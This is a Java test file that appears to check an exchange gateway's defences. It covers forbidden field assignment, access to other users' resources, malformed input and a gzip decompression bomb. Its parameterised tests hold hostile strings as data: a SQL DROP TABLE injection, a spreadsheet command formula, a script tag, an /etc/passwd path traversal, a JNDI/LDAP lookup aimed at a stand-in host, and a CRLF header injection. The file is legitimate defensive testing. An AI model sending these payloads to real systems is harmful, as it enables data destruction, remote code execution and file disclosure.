package exchange.halflight.gateway.attack;

import static org.junit.jupiter.api.Assertions.assertEquals;
import static org.junit.jupiter.api.Assertions.assertThrows;
import static org.junit.jupiter.api.Assertions.assertTrue;

import com.fasterxml.jackson.databind.JsonNode;
import exchange.halflight.gateway.RunningExchange;
import exchange.halflight.gateway.access.TestIdentity;
import exchange.halflight.gateway.stream.StreamClient;
import exchange.halflight.messages.grpc.ExchangeGrpc;
import exchange.halflight.messages.grpc.PlaceOrderRequest;
import io.grpc.Status;
import io.grpc.StatusRuntimeException;
import java.io.IOException;
import java.io.InputStream;
import java.nio.charset.StandardCharsets;
import java.nio.file.Path;
import java.util.Set;
import java.util.TreeSet;
import java.util.regex.Matcher;
import java.util.regex.Pattern;
import org.junit.jupiter.api.AfterAll;
import org.junit.jupiter.api.BeforeAll;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.io.TempDir;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.CsvSource;
import org.junit.jupiter.params.provider.ValueSource;

/** Texts that mean something to somebody behind us, fields that are nobody's to fill in, things that are somebody else's. */
final class InjectionTest {
    private static final int BOMB_BYTES = 50_000_000;

    @TempDir
    private static Path folder;

    private static Doors doors;
    private static Http http;
    private static String ada;
    private static String ben;

    @BeforeAll
    static void start() throws Exception {
        doors = new Doors(folder);
        http = new Http(doors.http(0));
        doors.person("ada@example.org");
        doors.person("ben@example.org");
        ada = logIn("ada@example.org");
        ben = logIn("ben@example.org");
    }

    @AfterAll
    static void stop() throws Exception {
        doors.close();
    }

    @ParameterizedTest
    @CsvSource(
            delimiter = '|',
            quoteCharacter = '~',
            value = {
                "POST|/auth/register|'email':'m@example.org','password':'correct horse battery','acceptedTerms':'x'|tier|'MARKET_MAKER'",
                "POST|/auth/register|'email':'m@example.org','password':'correct horse battery','acceptedTerms':'x'|accountId|'1'",
                "POST|/auth/login|'email':'m@example.org','password':'x'|userId|'1'",
                "POST|/api-keys|'label':'a','permissions':['READ']|accountId|'1'",
                "POST|/api-keys|'label':'a','permissions':['READ']|keyId|'abc'",
                "POST|/orders|'market':'BTC-PERP','side':'BUY','type':'LIMIT','price':'49000','size':'0.01'|accountId|'1'",
                "POST|/orders|'market':'BTC-PERP','side':'BUY','type':'LIMIT','price':'49000','size':'0.01'|commandId|'1'",
                "POST|/orders/dead-man-switch||accountId|'1'",
                "POST|/positions/BTC-PERP/leverage|'leverage':5|accountId|'1'",
                "POST|/withdrawals|'amount':'1'|accountId|'1'",
                "POST|/auth/second-factor/confirm|'code':'1'|userId|'1'",
            })
    void nobodyFillsInWhatIsNotHis(String method, String path, String fields, String field, String value)
            throws Exception {
        String more = (fields == null ? "" : fields + ",") + "'" + field + "':" + value;
        Http.Answer answer = http.send(method, path, ada, "{" + more + "}");
        assertEquals("400 INVALID_REQUEST", answer.refusal(), answer.body()::toString);
        assertEquals(field, answer.body().path("field").asText());
    }

    @Test
    void whatIsSomebodyElsesIsNotThere() throws Exception {
        String key = http.post("/api-keys", ben, "{'label':'b','permissions':['READ']}")
                .ok()
                .path("keyId")
                .asText();
        assertEquals(
                "404 NOT_FOUND",
                http.send("DELETE", "/api-keys/" + key, ada, "").refusal());
        String session = http.send("GET", "/auth/sessions", ben, "")
                .ok()
                .path("sessions")
                .path(0)
                .path("sessionId")
                .asText();
        assertEquals(
                "404 NOT_FOUND",
                http.send("DELETE", "/auth/sessions/" + session, ada, "").refusal());
        String order = place(ben, "bens");
        assertEquals(
                "404 UNKNOWN_ORDER",
                http.send("GET", "/orders/client/bens", ada, "").refusal());
        assertEquals(
                "404 UNKNOWN_ORDER",
                http.send("DELETE", "/orders/client/bens", ada, "").refusal());
        assertEquals(
                order,
                http.send("GET", "/orders/client/bens", ben, "")
                        .ok()
                        .path("orderId")
                        .asText());
        try (StreamClient client = new StreamClient(doors.http(0), "/v1/ws", message -> {})) {
            client.ask("{'op':'login','login':{'token':'" + ada + "'}}");
            assertEquals("UNKNOWN_ORDER", code(client, "{'op':'cancel','cancel':{'clientOrderId':'bens'}}"));
            assertEquals(
                    "INVALID_REQUEST",
                    code(client, "{'op':'subscribe','channels':[{'channel':'orders','market':'2'}]}"));
            assertEquals(
                    "INVALID_REQUEST",
                    code(client, "{'op':'subscribe','channels':[{'channel':'orders','accountId':'2'}]}"));
            assertEquals("ALREADY_LOGGED_IN", code(client, "{'op':'login','login':{'token':'" + ben + "'}}"));
        }
        try (StreamClient client = new StreamClient(doors.http(0), "/private/ws/" + "a".repeat(64), message -> {})) {
            assertEquals(1008, client.closeCode(), "nobody's listen key");
        }
    }

    /** What a database, a page or a spreadsheet would take for something else stays the text that it is. */
    @ParameterizedTest
    @ValueSource(
            strings = {
                "x'); DROP TABLE identity.account; --",
                "' OR '1'='1",
                "=cmd|' /C calc'!A0",
                "+1+1",
                "-1",
                "@SUM(1)",
                "<script>alert(1)</script>",
                "../../etc/passwd",
                "${jndi:ldap://elsewhere.example}",
                "%s%n"
            })
    void textsStayWhatTheyAre(String text) throws Exception {
        String json = new com.fasterxml.jackson.databind.ObjectMapper().writeValueAsString(text);
        // Apostrophes are quotes to this client.
        String label = json.replace("'", "\\u0027");
        JsonNode made = http.post("/api-keys", ada, "{'label':" + label + ",'permissions':['READ']}")
                .ok();
        assertEquals(text, made.path("label").asText());
        assertEquals(
                204,
                http.send("DELETE", "/api-keys/" + made.path("keyId").asText(), ada, "")
                        .status());
        String login = "{'email':" + label + ",'password':" + label + "}";
        int status = http.post("/auth/login", "", login).status();
        // 403: too many logins failed with texts that are no email at all.
        assertTrue(status == 400 || status == 401 || status == 403, "status " + status);
        assertEquals(
                400, http.post("/auth/verify", "", "{'token':" + label + "}").status());
        assertEquals(
                401,
                http.post("/auth/refresh", "", "{'refreshToken':" + label + "}").status());
    }

    @ParameterizedTest
    @ValueSource(strings = {"'\\r\\nSet-Cookie: x'", "'\\u0000'", "'\\u001b[2J'", "'\\u202e'"})
    void controlCharactersAreNoOrdersName(String name) throws Exception {
        Http.Answer answer = http.post("/orders", ada, order(name));
        assertEquals("400 INVALID_FIELD", answer.refusal(), answer.body()::toString);
    }

    /**
     * A spreadsheet runs what begins with one of these. Such a name is as good as another as long as nothing is handed out that a
     * spreadsheet opens; who adds that must put an apostrophe before it and will find this test.
     */
    @Test
    void nothingIsHandedOutThatASpreadsheetOpens() throws Exception {
        for (String name : new String[] {"=1+1", "+1", "-1", "@A1"}) {
            http.post("/orders", ada, order("'" + name + "'"));
        }
        Set<String> types = new TreeSet<>();
        try (InputStream description = InjectionTest.class.getResourceAsStream("/openapi.yaml")) {
            Matcher type = Pattern.compile("\\b((?:application|text|image)/[a-z+-]+)")
                    .matcher(new String(description.readAllBytes(), StandardCharsets.UTF_8));
            while (type.find()) {
                types.add(type.group(1));
            }
        }
        assertEquals(Set.of("application/json", "application/problem+json", "application/yaml", "text/html"), types);
    }

    @ParameterizedTest
    @ValueSource(strings = {"NaN", "1e400", "0x1", "Infinity", "١"})
    void numbersThatAreNoneOverAStream(String size) throws Exception {
        try (StreamClient client = new StreamClient(doors.http(0), "/v1/ws", message -> {})) {
            client.ask("{'op':'login','login':{'token':'" + ada + "'}}");
            String place =
                    "{'op':'place','place':{'market':'BTC-PERP','side':'BUY','type':'LIMIT','price':'49000','size':";
            assertEquals("INVALID_REQUEST", code(client, place + "'" + size + "'}}"));
            assertEquals("INVALID_SIZE", code(client, place + "'-1'}}"));
        }
    }

    /** Small on the way and huge behind: it is not unpacked to its end. */
    @Test
    void aCompressedBombDoesNotGoOff() {
        PlaceOrderRequest bomb =
                PlaceOrderRequest.newBuilder().setMarket("A".repeat(BOMB_BYTES)).build();
        StatusRuntimeException refused = assertThrows(
                StatusRuntimeException.class,
                () -> ExchangeGrpc.newBlockingStub(doors.grpc(0))
                        .withCompression("gzip")
                        .placeOrder(bomb));
        assertEquals(Status.Code.RESOURCE_EXHAUSTED, refused.getStatus().getCode(), refused::toString);
    }

    private static String place(String token, String name) throws IOException, InterruptedException {
        return http.post("/orders", token, order("'" + name + "'"))
                .ok()
                .path("orderId")
                .asText();
    }

    private static String order(String name) {
        return "{'market':'" + RunningExchange.MARKET
                + "','side':'BUY','type':'LIMIT','price':'49000','size':'0.01','clientOrderId':" + name + "}";
    }

    private static String code(StreamClient client, String request) throws InterruptedException {
        return client.ask(request).path("code").asText();
    }

    private static String logIn(String email) throws IOException, InterruptedException {
        return http.logIn(email, TestIdentity.PASSWORD.reveal(), "")
                .ok()
                .path("accessToken")
                .asText();
    }
}
